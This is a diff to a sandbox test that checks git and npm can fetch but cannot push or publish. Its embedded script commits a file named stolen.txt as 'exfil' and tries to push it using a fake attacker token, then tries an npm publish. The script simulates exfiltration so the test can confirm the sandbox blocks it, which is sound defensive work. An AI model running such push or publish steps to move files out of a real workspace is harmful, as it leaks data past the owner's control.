@@ -651,12 +651,14 @@ fn git_and_npm_fetch_but_never_push_or_publish() {
     .unwrap();
     let script = r#"
 set -u
+# A new repository's .git is a protected name in the workspace: clone in /tmp.
+W=$PWD; cd /tmp
 git clone -q https://github.com/lab/repo.git clone1 && echo "clone connect: $(cat clone1/README.md)"
 git -c http.proxy="$PADDOCK_SOCKS_PROXY" clone -q https://github.com/lab/repo.git clone2 && echo "clone socks5: $(cat clone2/README.md)"
-cd clone1 && cp ../pkg/stolen.txt . && git -c user.name=x -c user.email=x@x add . && git -c user.name=x -c user.email=x@x commit -qm exfil
+cd clone1 && cp "$W/pkg/stolen.txt" . && git -c user.name=x -c user.email=x@x add . && git -c user.name=x -c user.email=x@x commit -qm exfil
 git push -q https://x-access-token:ghp_Attacker0123456789abcdefABCDEF0123@github.com/lab/repo.git HEAD:main 2>&1 | tail -1; echo "push connect rc=$?"
 git -c http.proxy="$PADDOCK_SOCKS_PROXY" push -q https://x-access-token:ghp_Attacker0123456789abcdefABCDEF0123@github.com/lab/repo.git HEAD:main 2>&1 | tail -1
-cd ..
+cd "$W"
 mkdir app && cd app && npm install --no-audit --no-fund --loglevel=error left-pad-lab @lab/scoped >/dev/null 2>&1; node -e 'console.log("npm install: " + require("left-pad-lab")() + ", " + require("@lab/scoped")())'
 cd ../pkg && npm publish --registry https://registry.npmjs.org/ >/dev/null 2>&1; echo "publish rc=$?"
 "#;
